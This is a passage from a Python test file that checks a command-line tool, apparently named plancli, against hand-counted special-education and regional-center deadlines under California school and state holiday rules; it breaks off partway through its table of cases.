"""An outside check of plancli's dates: plan files written the way a parent or an advocate
writes them, every expected date worked out by hand from the SPEC (§3 counting, §4 catalogue
and its paragraphs on `answers`, `lapsed`, the follow-up meeting and age-based rules, §5
`met_on`/`days_late`/`complaint_by` and the CSV guard, §8 promises) and from
reference/calendars.md, before reading the engine. The count is written next to each case.

Each case runs the installed program as a user would (`python -m plancli deadlines --all
--format json --today ...`, `explain`, `check`), in a fresh process, and compares.

Conventions: day 0 is the trigger date, "(n)" is counted day n, "[x]" is a day not counted.
Weekdays were checked with the standard library's calendar module.

Holidays used below (SPEC §3.3, business days): 2026-10-12 Columbus Day, 2026-11-26/27
Thanksgiving and the day after, 2026-12-25, 2027-01-01, 2027-02-15 Washington's Birthday,
2027-12-24 (Christmas observed: Dec 25 is a Saturday), 2027-12-31 (New Year's Day 2028
observed: Jan 1 is a Saturday). NOT business-day holidays: 2027-02-12 Lincoln Day (in GC 6700
but not in the SPEC's state-office list).

School holidays (SPEC §3.5; Cal. Educ. Code § 37220(a), current text as published at
https://codes.findlaw.com/ca/education-code/edc-sect-37220/ , the law's own text on a
third-party site): Jan 1, Dr. Martin Luther King Jr. Day, Lincoln Day ("The Monday or Friday
of the week in which February 12 occurs"), Washington Day, Memorial Day, July 4, Labor Day,
Veterans Day, Thanksgiving, Dec 25. Columbus Day is NOT on that list, and Cesar Chavez Day is
a day schools MAY close by agreement (§ 37220.5, https://self-law.org/code/ca/education-code/37220-5):
both are school days unless the district lists them in `calendar.holidays`.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

# The district calendar of the examples (2026-27 and 2027-28). Thanksgiving break = 5 school
# days (counted); winter breaks = 10 weekdays (paused); summer between Jun 3 and Aug 11, 2027.
CALENDAR = """\
calendar:
  years:
    - first_day: 2026-08-12
      last_day: 2027-06-03
      breaks:
        - {name: Thanksgiving break, first: 2026-11-23, last: 2026-11-27}
        - {name: Winter break, first: 2026-12-21, last: 2027-01-01}
    - first_day: 2027-08-11
      last_day: 2028-06-01
      breaks:
        - {name: Thanksgiving break, first: 2027-11-22, last: 2027-11-26}
        - {name: Winter break, first: 2027-12-20, last: 2027-12-31}
"""

# Only the 2026-27 year (no spring break): for school-day counts in the spring.
ONE_YEAR = """\
calendar:
  years:
    - first_day: 2026-08-12
      last_day: 2027-06-03
      breaks:
        - {name: Winter break, first: 2026-12-21, last: 2027-01-01}
"""

RC = """\
regional_center:
  name: Central Valley Regional Center
"""


def plan(
    events: str, *, birth: str = "2019-05-14", name: str = "Maya Lopez", extra: str = ""
) -> str:
    return (
        f"version: 1\nchild:\n  name: {json.dumps(name)}\n  birth_date: {birth}\n"
        f"{extra}events:\n{events}"
    )


def run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "plancli", *args],
        capture_output=True,
        text=True,
        check=False,
        env={"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8", "NO_COLOR": "1"},
        timeout=60,
    )


def deadlines(path: Path, today: str, *more: str) -> list[dict[str, Any]]:
    result = run("deadlines", "--plan", str(path), "--format", "json", "--today", today, *more)
    assert result.returncode == 0, result.stderr
    assert result.stderr == ""
    rows: list[dict[str, Any]] = json.loads(result.stdout)["deadlines"]
    return rows


def find(rows: list[dict[str, Any]], rule: str, event: str | None) -> dict[str, Any]:
    hits = [r for r in rows if r["rule"] == rule and r["trigger"]["event"] == event]
    assert len(hits) == 1, f"{rule}:{event} appears {len(hits)} times in {[r['id'] for r in rows]}"
    return hits[0]


@dataclass(frozen=True)
class Case:
    """One hand-worked date: the plan, today, which deadline, and what it must say."""

    plan: str
    today: str
    rule: str
    event: str | None
    expect: dict[str, Any]
    why: str
    wrong: str | None = None  # the exact discrepancy, when plancli disagrees
    extra_args: tuple[str, ...] = field(default=())


# ---------------------------------------------------------------------------------------------
# 1. `answers` (SPEC §4 "Which trigger a response answers")
# Two written requests for an IEP meeting; the meeting of Oct 7 answers the SECOND one only.
# e2 2026-09-21 + 30 (school-tolled, no break in between): Sep 22 (1) .. Sep 30 (9) .. Oct 21 (30).
# e1 2026-09-08 + 30: Sep 9 (1) .. Sep 30 (22) .. Oct 8 (30). The Oct 7 meeting would meet it
# without `answers`; with `answers: e2` it must not: open, and overdue on Oct 15 by 7 days.
# complaint_by = the anniversary of the due date (34 CFR 300.153(c)): 2027-10-08.
ANSWERS = plan(
    """\
  - {id: e1, type: iep-meeting-requested, date: 2026-09-08}
  - {id: e2, type: iep-meeting-requested, date: 2026-09-21}
  - {id: e3, type: iep-meeting, date: 2026-10-07, answers: e2}
""",
    extra=CALENDAR,
)

# ---------------------------------------------------------------------------------------------
# 2. Lapsed appeal windows (SPEC §4: a deadline the parent owes is met only on or before its
# due date; otherwise `lapsed`). The appeal filed in 2027 answers the 2027 notice, not these.
# e1 2023-05-01 (new law, on/after 2023-03-01): fair-hearing 60 days: May 2 (1) .. May 31 (30),
#   Jun 30 (60) -> 2023-06-30. aid-paid-pending: 30 days = May 31, capped by effective_date
#   2023-06-01 -> 2023-05-31.
# e2 2023-02-10 (old law): fair-hearing 30 days: Feb 11 (1) .. Feb 28 (18), Mar 12 (30) ->
#   2023-03-12; aid-paid-pending 10 days: Feb 20 (10) -> 2023-02-20 (effective 2023-03-15 later).
# e3 2027-01-05: fair-hearing 60 days: Jan 6 (1) .. Jan 31 (26), Feb 28 (54), Mar 6 (60) ->
#   2027-03-06; met by e4 2027-01-10.
LAPSED = plan(
    """\
  - {id: e1, type: notice-of-action-received, date: 2023-05-01, effective_date: 2023-06-01}
  - {id: e2, type: notice-of-action-received, date: 2023-02-10, effective_date: 2023-03-15}
  - {id: e3, type: notice-of-action-received, date: 2027-01-05, effective_date: 2027-02-15}
  - {id: e4, type: appeal-filed, date: 2027-01-10}
""",
    extra=RC,
)
LAPSED_OPEN = {"status": "lapsed", "met_on": None, "days_late": None, "complaint_by": None}

# ---------------------------------------------------------------------------------------------
# 3. Closures by system (SPEC §3.3: "A district closure never lengthens a regional center's
# count, nor the reverse"). Both plans carry BOTH lists.
# RC: rc-intake 15 working days from Thu 2026-10-01; district closed Fri Oct 9 (ignored), RC
# closed Tue Oct 20 (skipped), Columbus Day Oct 12 (federal, skipped):
#   Oct 2 (1), 5 (2), 6 (3), 7 (4), 8 (5), 9 (6), [12], 13 (7), 14 (8), 15 (9), 16 (10),
#   19 (11), [20], 21 (12), 22 (13), 23 (14), 26 (15) -> 2026-10-26.
RC_CLOSURES = plan(
    """\
  - {id: e1, type: rc-intake-requested, date: 2026-10-01}
""",
    extra=CALENDAR + "  holidays: [2026-10-09]\n" + RC + "  closures: [2026-10-20]\n",
)
# District: school-records 5 business days from Mon 2026-11-16; RC closed Wed Nov 18 (ignored),
# district closed Thu Nov 19 (skipped): Nov 17 (1), 18 (2), [19], 20 (3), 23 (4), 24 (5)
# -> 2026-11-24. (Nov 23-24 are in the Thanksgiving break: a break is not a holiday.)
DISTRICT_CLOSURES = plan(
    """\
  - {id: e1, type: records-requested, date: 2026-11-16}
""",
    extra=CALENDAR + "  holidays: [2026-11-19]\n" + RC + "  closures: [2026-11-18]\n",
)

# ---------------------------------------------------------------------------------------------
# 4. The IPP follow-up meeting (SPEC §4: met only by an ipp-meeting strictly after the partial
# agreement). Partial agreement signed at the Sep 10 meeting: due Sep 10 + 15 = 2026-09-25.
FOLLOW_UP_SAME_DAY = plan(
    """\
  - {id: e1, type: ipp-meeting, date: 2026-09-10}
  - {id: e2, type: ipp-partial-agreement, date: 2026-09-10}
""",
    extra=RC,
)
FOLLOW_UP_AFTER = plan(
    """\
  - {id: e1, type: ipp-meeting, date: 2026-09-10}
  - {id: e2, type: ipp-partial-agreement, date: 2026-09-10}
  - {id: e3, type: ipp-meeting, date: 2026-09-30}
""",
    extra=RC,
)

# ---------------------------------------------------------------------------------------------
# 5. School days (SPEC §3.5): manifestation-review, 10 school days.
# Columbus Day: change of placement Mon 2026-10-05. Oct 6 (1), 7 (2), 8 (3), 9 (4),
#   12 Columbus Day, in session (5), 13 (6), 14 (7), 15 (8), 16 (9), 19 (10) -> 2026-10-19.
#   Listing Oct 12 under in_session changes nothing.
COLUMBUS = plan(
    "  - {id: e1, type: discipline-placement-change, date: 2026-10-05}\n", extra=CALENDAR
)
COLUMBUS_IN_SESSION = plan(
    "  - {id: e1, type: discipline-placement-change, date: 2026-10-05}\n",
    extra=CALENDAR + "  in_session: [2026-10-12]\n",
)
# Cesar Chavez Day: change Wed 2027-03-24. Mar 25 (1), 26 (2), 29 (3), 30 (4),
#   31 Cesar Chavez Day, in session (5), Apr 1 (6), 2 (7), 5 (8), 6 (9), 7 (10) -> 2027-04-07.
CHAVEZ = plan("  - {id: e1, type: discipline-placement-change, date: 2027-03-24}\n", extra=ONE_YEAR)
CHAVEZ_IN_SESSION = plan(
    "  - {id: e1, type: discipline-placement-change, date: 2027-03-24}\n",
    extra=ONE_YEAR + "  in_session: [2027-03-31]\n",
)
# A district that closes on Cesar Chavez Day (37220.5) lists it: Mar 31 skipped -> Apr 8.
CHAVEZ_CLOSED = plan(
    "  - {id: e1, type: discipline-placement-change, date: 2027-03-24}\n",
    extra=ONE_YEAR + "  holidays: [2027-03-31]\n",
)
# Lincoln Day 2027: Feb 12 is a Friday, so Lincoln Day is Mon Feb 8 or Fri Feb 12 (37220(a)(3));
# Washington Day is Mon Feb 15. Change Wed 2027-02-03; whichever of the two is Lincoln Day:
#   Friday: Feb 4 (1), 5 (2), 8 (3), 9 (4), 10 (5), 11 (6), [12], [15], 16 (7), 17 (8),
#     18 (9), 19 (10) -> 2027-02-19.
#   Monday: Feb 4 (1), 5 (2), [8], 9 (3), 10 (4), 11 (5), 12 (6), [15], 16 (7) .. 19 (10)
#     -> 2027-02-19 as well.
LINCOLN = plan(
    "  - {id: e1, type: discipline-placement-change, date: 2027-02-03}\n", extra=ONE_YEAR
)
# A district in session on both (it moved Lincoln Day by resolution, as § 37220 allows) lists
# them under in_session: Feb 4 (1) .. 12 (7), [15], 16 (8), 17 (9), 18 (10) -> 2027-02-18.
LINCOLN_IN_SESSION = plan(
    "  - {id: e1, type: discipline-placement-change, date: 2027-02-03}\n",
    extra=ONE_YEAR + "  in_session: [2027-02-08, 2027-02-12]\n",
)
# Business days do not skip Lincoln Day (not on the SPEC §3.3 list): records requested Mon
# 2027-02-08: Feb 9 (1), 10 (2), 11 (3), 12 (4), [15 Washington's Birthday], 16 (5) -> 2027-02-16.
LINCOLN_BUSINESS = plan("  - {id: e1, type: records-requested, date: 2027-02-08}\n", extra=ONE_YEAR)

# ---------------------------------------------------------------------------------------------
# 6. A late Early Start referral at 2 years 10 months (SPEC §4: an Early Start age-based date
# before the first early-start event is not owed as such; hidden without --all, explained
# with it). Born 2024-05-20: third birthday 2027-05-20.
#   transition-notice = 2027-05-20 - 6 months = 2026-11-20 (before the referral).
#   transition-conference = 2027-05-20 - 90 days: Apr 20 (-30), Mar 21 (-60), Feb 19 (-90)
#     -> 2027-02-19 (before the referral).
#   initial-ifsp: referral Mon 2027-03-22 + 45: Mar 31 (9), Apr 30 (39), May 6 (45) -> 2027-05-06.
#   iep-by-age-3: the third birthday, 2027-05-20.
LATE_ES = plan(
    "  - {id: e1, type: early-start-referral, date: 2027-03-22}\n",
    birth="2024-05-20",
    name="Leo Martinez",
    extra=RC,
)

# ---------------------------------------------------------------------------------------------
# 7. Age-based dates closed by their events (SPEC §4).
# transition-plan: born 2010-09-15, 16th birthday 2026-09-15. The May 2026 IEP includes it.
TRANSITION_MET = plan(
    """\
  - {id: e1, type: iep-meeting, date: 2026-05-01}
  - {id: e2, type: transition-plan-included, date: 2026-05-01}
""",
    birth="2010-09-15",
)
# Without it: overdue on 2026-10-01 by 16 days (Sep 15 -> Oct 1); complaint by 2027-09-15.
TRANSITION_OPEN = plan("  - {id: e1, type: iep-meeting, date: 2026-05-01}\n", birth="2010-09-15")
# rights-at-majority: born 2009-04-10, 17th birthday 2026-04-10; informed 2026-05-20:
# met-late by 40 days (Apr 10 -> May 10 = 30, -> May 20 = 40); complaint by 2027-04-10.
MAJORITY = plan(
    """\
  - {id: e1, type: iep-meeting, date: 2025-11-01}
  - {id: e2, type: rights-at-majority-informed, date: 2026-05-20}
""",
    birth="2009-04-10",
)

# ---------------------------------------------------------------------------------------------
# 8. school-tolled (SPEC §3.4) across breaks and the end of the school year.
# Winter break Dec 21 - Jan 1 (10 weekdays > 5: paused). Last school day before: Fri Dec 18;
# paused Dec 19 - Jan 3; school reconvenes Mon Jan 4 (a counted day).
# e1 iep-meeting-requested Thu 2026-12-10: Dec 11 (1) .. Dec 18 (8), [Dec 19 - Jan 3],
#   Jan 4 (9), Jan 25 (30) -> 2027-01-25.
# e2 iep-meeting-requested Mon 2026-11-16: the Thanksgiving break has 5 school days, counted:
#   Nov 17 (1) .. Nov 30 (14), Dec 16 (30) -> 2026-12-16.
WINTER = plan(
    """\
  - {id: e1, type: iep-meeting-requested, date: 2026-12-10}
  - {id: e2, type: iep-meeting-requested, date: 2026-11-16}
""",
    extra=CALENDAR,
)
# End of the year: last day Thu 2027-06-03, next first day Wed 2027-08-11.
# e1 assessment-requested Fri 2027-05-21 (13 days before the last day: normal count):
#   May 22 (1) .. May 31 (10), Jun 1 (11), Jun 2 (12), Jun 3 (13), [Jun 4 - Aug 10],
#   Aug 11 (14), Aug 12 (15) -> 2027-08-12.
# e2 assessment-requested Mon 2027-05-24 (10 days before: end-of-year rule):
#   Aug 11 + 10 -> 2027-08-21 (a Saturday; owed by the district: CCP § 12a note, Mon Aug 23).
END_OF_YEAR_PLAN = plan(
    """\
  - {id: e1, type: assessment-requested, date: 2027-05-21}
  - {id: e2, type: assessment-requested, date: 2027-05-24}
""",
    extra=CALENDAR,
)
# initial-iep: referral Mon 2027-05-10 (24 days before the last day, <= 30), consent Tue
# 2027-05-25 (before the next first day): due = Aug 11 + 30: Aug 31 (20), Sep 10 (30)
# -> 2027-09-10 (replacing the normal count, which would give Sep 30).
END_OF_YEAR_IEP = plan(
    """\
  - {id: e1, type: assessment-requested, date: 2027-05-10}
  - {id: e2, type: assessment-consent-given, date: 2027-05-25}
""",
    extra=CALENDAR,
)
# A count that runs past the last listed school year (SPEC §3.4): iep-meeting-requested Thu
# 2027-05-20 with only 2026-27 in the calendar: May 21 (1) .. Jun 3 (14), then calendar days:
# Jun 4 (15) .. Jun 19 (30) -> 2027-06-19, estimated.
PAST_LAST_YEAR = plan(
    "  - {id: e1, type: iep-meeting-requested, date: 2027-05-20}\n", extra=ONE_YEAR
)

# ---------------------------------------------------------------------------------------------
# 9. Feb 29 (SPEC §3.6).
# annual-iep-review: iep-meeting 2028-02-29 + 1 year -> 2029-02-28.
# triennial: assessment-completed 2028-02-29 + 3 years -> 2031-02-28.
# resolution-meeting: due-process-filed Sun 2028-02-20 + 15: Feb 29 (9), Mar 6 (15) -> 2028-03-06.
# due-process-time-limit: dispute-known 2028-02-29 + 2 years -> 2030-02-28.
# ifsp-periodic-review: ifsp-meeting 2027-08-31 + 6 months -> 2028-02-29 (leap year clamp);
#   overdue on 2028-03-10, complaint by its anniversary: 2029-02-28 (the first late day is
#   Mar 1 2028; a year from it is Mar 1 2029; one day on the safe side is Feb 28 2029).
LEAP = plan(
    """\
  - {id: e1, type: iep-meeting, date: 2028-02-29}
  - {id: e2, type: assessment-completed, date: 2028-02-29}
  - {id: e3, type: due-process-filed, date: 2028-02-20}
  - {id: e4, type: dispute-known, date: 2028-02-29}
""",
)
LEAP_ES = plan(
    """\
  - {id: e1, type: early-start-referral, date: 2027-07-20}
  - {id: e2, type: ifsp-meeting, date: 2027-08-31}
""",
    birth="2026-01-10",
    extra=RC,
)

# ---------------------------------------------------------------------------------------------
# 10. Year ends.
# school-records from Mon 2027-12-27: Dec 28 (1), 29 (2), 30 (3), [31: New Year's 2028
#   observed], [Jan 1-2 weekend], Jan 3 (4), Jan 4 (5) -> 2028-01-04.
# rc-intake from Fri 2026-12-18: Dec 21 (1), 22 (2), 23 (3), 24 (4), [25], 28 (5), 29 (6),
#   30 (7), 31 (8), [Jan 1], Jan 4 (9) .. Jan 8 (13), Jan 11 (14), Jan 12 (15) -> 2027-01-12.
# hearing-decision from Fri 2026-11-20 + 75: Nov 30 (10), Dec 31 (41), Jan 31 (72),
#   Feb 3 (75) -> 2027-02-03; resolution-meeting + 15: Dec 5 2026 (Saturday).
YEAR_END = plan(
    """\
  - {id: e1, type: records-requested, date: 2027-12-27}
  - {id: e2, type: rc-intake-requested, date: 2026-12-18}
  - {id: e3, type: due-process-filed, date: 2026-11-20}
""",
    extra=CALENDAR + RC,
)

# ---------------------------------------------------------------------------------------------
# 11. Promises (SPEC §8). e1: the principal promised the plan by Oct 8; e3 answers e1 on Oct 7:
# met. e2: a promise by Oct 15 that nothing answers (the Oct 16 note does not say `answers`):
# overdue on Oct 20 by 5 days; a promise is not law, so complaint_by is null.
PROMISES = plan(
    """\
  - id: e1
    type: contact
    date: 2026-10-01
    with: Principal Kim
    channel: phone
    direction: received
    promised: send the assessment plan
    promised_by: 2026-10-08
  - {id: e2, type: contact, date: 2026-10-10, with: Ms. Ruiz, channel: email,
     direction: received, promised: send the speech log, promised_by: 2026-10-15}
  - {id: e3, type: assessment-plan-received, date: 2026-10-07, answers: e1}
  - {id: e4, type: note, date: 2026-10-16, note: Still waiting for the speech log.}
""",
    extra=CALENDAR,
)

# ---------------------------------------------------------------------------------------------
# 12. complaint_by (SPEC §5).
# iep: assessment-plan from Thu 2026-09-03 + 15 (no break): Sep 18 -> overdue on Oct 1 by 13;
#   complaint by the anniversary 2027-09-18.
# early-start: initial-ifsp from 2026-06-01 + 45: Jun 30 (29), Jul 16 (45) -> overdue on Aug 1
#   by 16; complaint by 2027-07-16.
# 504: section-504-evaluation from 2026-01-15 + 60: Jan 31 (16), Feb 28 (44), Mar 16 (60);
#   504-meeting Apr 1: met-late by 16; complaint by Mar 16 + 180: Mar 31 (15), Apr 30 (45),
#   May 31 (76), Jun 30 (106), Jul 31 (137), Aug 31 (168), Sep 12 (180) -> 2026-09-12.
# rc: rc-intake from Thu 2026-07-02, 15 working days: Jul 3 (observed Independence Day) skipped:
#   Jul 6 (1) .. 10 (5), 13-17 (10), 20-24 (15) -> 2026-07-24; overdue, complaint_by null.
COMPLAINT_IEP = plan("  - {id: e1, type: assessment-requested, date: 2026-09-03}\n", extra=CALENDAR)
COMPLAINT_ES = plan(
    "  - {id: e1, type: early-start-referral, date: 2026-06-01}\n",
    birth="2025-02-01",
    extra=RC,
)
COMPLAINT_504 = plan(
    """\
  - {id: e1, type: 504-evaluation-requested, date: 2026-01-15}
  - {id: e2, type: 504-meeting, date: 2026-04-01}
"""
)
COMPLAINT_RC = plan("  - {id: e1, type: rc-intake-requested, date: 2026-07-02}\n", extra=RC)


# ---------------------------------------------------------------------------------------------
# 13. Where a paused period begins and ends (SPEC §3.4: "from the day after the last school day
# before it to the day before school reconvenes (adjacent weekends and holidays included)").
# A semester break Tue Jan 19 - Fri Jan 29, 2027 (9 weekdays), right after MLK Day (Mon Jan 18,
# a school holiday): the last school day before it is Fri Jan 15. iep-meeting-requested Wed
# 2027-01-13: Jan 14 (1), Jan 15 (2), [Jan 16 - Jan 31], Feb 1 (3), Feb 28 (30) -> 2027-02-28.
TOLL_HOLIDAY_BEFORE = plan(
    "  - {id: e1, type: iep-meeting-requested, date: 2027-01-13}\n",
    extra="""\
calendar:
  years:
    - first_day: 2026-08-12
      last_day: 2027-06-03
      breaks:
        - {name: Semester break, first: 2027-01-19, last: 2027-01-29}
""",
)
# A winter break Dec 21 - Fri Jan 15 (4 weeks) followed by MLK Day: school reconvenes Tue Jan 19.
# iep-meeting-requested Thu 2026-12-17: Dec 18 (1), [Dec 19 - Jan 18], Jan 19 (2), Feb 16 (30).
TOLL_HOLIDAY_AFTER = plan(
    "  - {id: e1, type: iep-meeting-requested, date: 2026-12-17}\n",
    extra="""\
calendar:
  years:
    - first_day: 2026-08-12
      last_day: 2027-06-03
      breaks:
        - {name: Winter break, first: 2026-12-21, last: 2027-01-15}
""",
)
# A Thanksgiving break of six listed weekdays (Fri Nov 20 - Fri Nov 27; "weekdays in the break
# as listed" = 6 > 5: paused), then the winter break. iep-meeting-requested Mon 2026-11-16:
# Nov 17 (1), 18 (2), 19 (3), [Nov 20 - Nov 29], Nov 30 (4) .. Dec 18 (22), [Dec 19 - Jan 3],
# Jan 4 (23) .. Jan 11 (30) -> 2027-01-11.
TOLL_SIX_WEEKDAYS = plan(
    "  - {id: e1, type: iep-meeting-requested, date: 2026-11-16}\n",
    extra="""\
calendar:
  years:
    - first_day: 2026-08-12
      last_day: 2027-06-03
      breaks:
        - {name: Thanksgiving break, first: 2026-11-20, last: 2026-11-27}
        - {name: Winter break, first: 2026-12-21, last: 2027-01-01}
""",
)

# ---------------------------------------------------------------------------------------------
# 14. extension-agreed (SPEC §3.9): the request of Sep 8 (due Oct 8) is extended on Oct 1 to
# Oct 30; the meeting of Oct 20 is on time.
EXTENSION = plan(
    """\
  - {id: e1, type: iep-meeting-requested, date: 2026-09-08}
  - {id: e2, type: extension-agreed, date: 2026-10-01, rule: iep-meeting-on-request,
     until: 2026-10-30}
  - {id: e3, type: iep-meeting, date: 2026-10-20}
""",
    extra=CALENDAR,
)

# ---------------------------------------------------------------------------------------------
# 15. The California state-office holidays in a working-day count (SPEC §3.3).
# rc-intake from Fri 2027-03-26: Mar 29 (1), 30 (2), [31 Cesar Chavez Day], Apr 1 (3), 2 (4),
#   Apr 5-9 (5-9), Apr 12-16 (10-14), Apr 19 (15) -> 2027-04-19.
# rc-intake from Mon 2026-11-23: Nov 24 (1), 25 (2), [26 Thanksgiving, 27 the day after],
#   Nov 30 (3), Dec 1-4 (4-7), Dec 7-11 (8-12), Dec 14 (13), 15 (14), 16 (15) -> 2026-12-16.
STATE_HOLIDAYS = plan(
    """\
  - {id: e1, type: rc-intake-requested, date: 2027-03-26}
  - {id: e2, type: rc-intake-requested, date: 2026-11-23}
""",
    extra=RC,
)

# ---------------------------------------------------------------------------------------------
# 16. Lincoln Day as the district keeps it (Cal. Educ. Code § 37220(a)(3): schools close on
# "The Monday or Friday of the week in which February 12 occurs": ONE day, the district's
# choice; § 37220 lets the board move it). A district that lists its Lincoln Day closure in
# `calendar.holidays` is closed that day and in session on the other.
# 2027 (Feb 12 is a Friday), district closed Mon Feb 8; change Wed 2027-02-03:
#   Feb 4 (1), 5 (2), [8 its Lincoln Day], 9 (3), 10 (4), 11 (5), 12 (6), [15 Washington Day],
#   16 (7), 17 (8), 18 (9), 19 (10) -> 2027-02-19.
LINCOLN_DISTRICT_MONDAY = plan(
    "  - {id: e1, type: discipline-placement-change, date: 2027-02-03}\n",
    extra=ONE_YEAR + "  holidays: [2027-02-08]   # Lincoln Day (district calendar)\n",
)
# 2028 (Feb 12 is a Saturday; its week is Feb 7-11), the calendar of examples/maya-iep.yaml,
# district closed Fri Feb 11; change Wed 2028-02-02: Feb 3 (1), 4 (2), 7 (3), 8 (4), 9 (5),
#   10 (6), [11 its Lincoln Day], 14 (7), 15 (8), 16 (9), 17 (10) -> 2028-02-17.
LINCOLN_DISTRICT_FRIDAY = plan(
    "  - {id: e1, type: discipline-placement-change, date: 2028-02-02}\n",
    extra=CALENDAR + "  holidays: [2028-02-11]   # Lincoln Day (district calendar)\n",
)


CASES: dict[str, Case] = {
    # 1
    "answers-meets-only-the-named-trigger": Case(
        ANSWERS,
        "2026-10-15",
        "iep-meeting-on-request",
        "e2",
        {"due": "2026-10-21", "status": "met", "met_on": "2026-10-07", "days_late": None},
        "Sep 21 + 30 = Oct 21; e3 answers e2",
    ),
    "answers-leaves-the-other-trigger-open": Case(
        ANSWERS,
        "2026-10-15",
        "iep-meeting-on-request",
        "e1",
        {
            "due": "2026-10-08",
            "status": "overdue",
            "met_on": None,
            "days_late": 7,
            "complaint_by": "2027-10-08",
        },
        "Sep 8 + 30 = Oct 8; e3 answers e2 only",
    ),
    # 2
    "lapsed-fair-hearing-2023-new-law": Case(
        LAPSED,
        "2027-02-01",
        "fair-hearing-request",
        "e1",
        {"due": "2023-06-30", **LAPSED_OPEN},
        "May 1 2023 + 60; the 2027 appeal is not for it",
    ),
    "lapsed-aid-paid-pending-2023-new-law": Case(
        LAPSED,
        "2027-02-01",
        "aid-paid-pending",
        "e1",
        {"due": "2023-05-31", **LAPSED_OPEN},
        "May 1 + 30 = May 31, before effective Jun 1",
    ),
    "lapsed-fair-hearing-2023-old-law": Case(
        LAPSED,
        "2027-02-01",
        "fair-hearing-request",
        "e2",
        {"due": "2023-03-12", **LAPSED_OPEN},
        "Feb 10 2023 + 30 (before 2023-03-01)",
    ),
    "lapsed-aid-paid-pending-2023-old-law": Case(
        LAPSED,
        "2027-02-01",
        "aid-paid-pending",
        "e2",
        {"due": "2023-02-20", **LAPSED_OPEN},
        "Feb 10 2023 + 10 (before 2023-03-01)",
    ),
    "appeal-2027-meets-the-2027-notice": Case(
        LAPSED,
        "2027-02-01",
        "fair-hearing-request",
        "e3",
        {"due": "2027-03-06", "status": "met", "met_on": "2027-01-10", "days_late": None},
        "Jan 5 2027 + 60 = Mar 6; appeal Jan 10",
    ),
    # 3
    "rc-count-ignores-district-closure": Case(
        RC_CLOSURES,
        "2026-10-02",
        "rc-intake",
        "e1",
        {"due": "2026-10-26", "status": "upcoming"},
        "15 working days, skip Oct 12, Oct 20",
    ),
    "district-count-ignores-rc-closure": Case(
        DISTRICT_CLOSURES,
        "2026-11-17",
        "school-records",
        "e1",
        {"due": "2026-11-24", "status": "due-soon"},
        "5 business days, skip Nov 19",
    ),
    # 4
    "follow-up-not-met-by-same-day-meeting": Case(
        FOLLOW_UP_SAME_DAY,
        "2026-10-01",
        "ipp-follow-up-meeting",
        "e2",
        {
            "due": "2026-09-25",
            "status": "overdue",
            "met_on": None,
            "days_late": 6,
            "complaint_by": None,
        },
        "Sep 10 + 15; the Sep 10 meeting is where it was signed",
    ),
    "follow-up-met-by-later-meeting": Case(
        FOLLOW_UP_AFTER,
        "2026-10-01",
        "ipp-follow-up-meeting",
        "e2",
        {
            "due": "2026-09-25",
            "status": "met-late",
            "met_on": "2026-09-30",
            "days_late": 5,
            "complaint_by": None,
        },
        "Sep 10 + 15 = Sep 25; met Sep 30",
    ),
    # 5
    "school-days-columbus-day-in-session": Case(
        COLUMBUS,
        "2026-10-06",
        "manifestation-review",
        "e1",
        {"due": "2026-10-19", "estimated": False},
        "Columbus Day is not in EC 37220(a)",
    ),
    "school-days-columbus-day-listed-in-session": Case(
        COLUMBUS_IN_SESSION,
        "2026-10-06",
        "manifestation-review",
        "e1",
        {"due": "2026-10-19", "estimated": False},
        "in_session: same count",
    ),
    "school-days-cesar-chavez-day-in-session": Case(
        CHAVEZ,
        "2027-03-25",
        "manifestation-review",
        "e1",
        {"due": "2027-04-07", "estimated": False},
        "EC 37220.5: closing is optional",
    ),
    "school-days-cesar-chavez-day-listed-in-session": Case(
        CHAVEZ_IN_SESSION,
        "2027-03-25",
        "manifestation-review",
        "e1",
        {"due": "2027-04-07", "estimated": False},
        "in_session: same count",
    ),
    "school-days-cesar-chavez-day-district-closed": Case(
        CHAVEZ_CLOSED,
        "2027-03-25",
        "manifestation-review",
        "e1",
        {"due": "2027-04-08", "estimated": False},
        "district lists Mar 31 as a closure",
    ),
    "school-days-lincoln-day": Case(
        LINCOLN,
        "2027-02-04",
        "manifestation-review",
        "e1",
        {"due": "2027-02-19", "estimated": False},
        "one Lincoln Day + Washington Day skipped",
    ),
    "school-days-lincoln-day-in-session": Case(
        LINCOLN_IN_SESSION,
        "2027-02-04",
        "manifestation-review",
        "e1",
        {"due": "2027-02-18", "estimated": False},
        "only Washington Day skipped",
    ),
    "business-days-lincoln-day-counts": Case(
        LINCOLN_BUSINESS,
        "2027-02-09",
        "school-records",
        "e1",
        {"due": "2027-02-16"},
        "Feb 12 counts; Feb 15 skipped",
    ),
    # 6
    "late-es-referral-initial-ifsp": Case(
        LATE_ES,
        "2027-03-25",
        "initial-ifsp",
        "e1",
        {"due": "2027-05-06", "status": "upcoming"},
        "Mar 22 + 45",
    ),
    "late-es-referral-iep-by-age-3": Case(
        LATE_ES,
        "2027-03-25",
        "iep-by-age-3",
        None,
        {"due": "2027-05-20"},
        "third birthday",
    ),
    # 7
    "transition-plan-met-by-transition-plan-included": Case(
        TRANSITION_MET,
        "2026-10-01",
        "transition-plan",
        None,
        {
            "due": "2026-09-15",
            "status": "met",
            "met_on": "2026-05-01",
            "days_late": None,
            "complaint_by": None,
        },
        "16th birthday; IEP in effect includes it",
    ),
    "transition-plan-open-is-overdue": Case(
        TRANSITION_OPEN,
        "2026-10-01",
        "transition-plan",
        None,
        {"due": "2026-09-15", "status": "overdue", "days_late": 16, "complaint_by": "2027-09-15"},
        "16th birthday, nothing recorded",
    ),
    "rights-at-majority-met-late": Case(
        MAJORITY,
        "2026-06-01",
        "rights-at-majority",
        None,
        {
            "due": "2026-04-10",
            "status": "met-late",
            "met_on": "2026-05-20",
            "days_late": 40,
            "complaint_by": "2027-04-10",
        },
        "17th birthday Apr 10; informed May 20",
    ),
    # 8
    "school-tolled-across-winter-break": Case(
        WINTER,
        "2026-12-11",
        "iep-meeting-on-request",
        "e1",
        {"due": "2027-01-25", "estimated": False},
        "8 days, pause, 22 days",
    ),
    "school-tolled-short-thanksgiving-break-counted": Case(
        WINTER,
        "2026-11-17",
        "iep-meeting-on-request",
        "e2",
        {"due": "2026-12-16", "estimated": False},
        "Nov 16 + 30",
    ),
    "assessment-plan-13-days-before-last-day": Case(
        END_OF_YEAR_PLAN,
        "2027-05-25",
        "assessment-plan",
        "e1",
